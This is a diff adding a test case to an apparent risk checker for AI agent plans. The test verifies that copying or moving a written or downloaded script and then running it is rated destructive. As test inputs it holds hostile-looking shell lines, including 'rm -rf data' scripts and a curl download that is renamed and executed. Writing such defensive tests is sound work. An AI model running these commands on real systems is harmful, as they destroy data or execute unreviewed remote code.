@@ -131,6 +131,20 @@ describe('a script the plan writes, then runs', () => {
     }
   });
 
+  it('a copy (cp, mv, install) of a script the plan or the line writes or downloads runs what that script holds', async () => {
+    const script = { id: 'script', tool: 'write_file', args: { path: 'a.sh', content: 'rm -rf data\n' } } as const;
+    for (const line of ['cp a.sh deploy.sh && sh deploy.sh', 'mv a.sh d.sh && sh d.sh', 'install -m 755 a.sh bin/d && bin/d']) {
+      expect(await runRisk([script, run(line)]), line).toEqual({ level: 'destroy', reason: expect.stringMatching(/, which step script writes: rm -rf data$/) });
+    }
+    const fetch = { id: 'fetch', tool: 'shell', args: { command: 'curl -fsS -o i.sh https://x.io/i.sh' } } as const;
+    expect(await runRisk([fetch, { ...run('cp i.sh run.sh && sh run.sh'), dependsOn: ['fetch'] }])).toEqual({ level: 'destroy', reason: 'runs run.sh, which step fetch downloads: code nobody reviewed' });
+    for (const line of ['echo "rm -rf data" > x.sh && cp x.sh d.sh && sh d.sh', 'curl -o i.sh https://x.io/i.sh && mv i.sh run.sh && sh run.sh']) {
+      expect((await assessPlanRisk(plan([{ id: 'run', tool: 'shell', args: { command: line } }]), options)).steps.run?.level, line).toBe('destroy');
+    }
+    // A copy of a file nobody in the plan writes is rated as running that file, as before.
+    expect((await assessPlanRisk(plan([{ id: 'run', tool: 'shell', args: { command: 'cp deploy.example.sh d.sh && sh d.sh' } }]), options)).steps.run?.level).toBe('write');
+  });
+
   it('a line that writes a file and runs it itself is destroy; a copy is run as what it copies', async () => {
     const lines = [
       'echo "rm -rf data" > d.sh && sh d.sh',
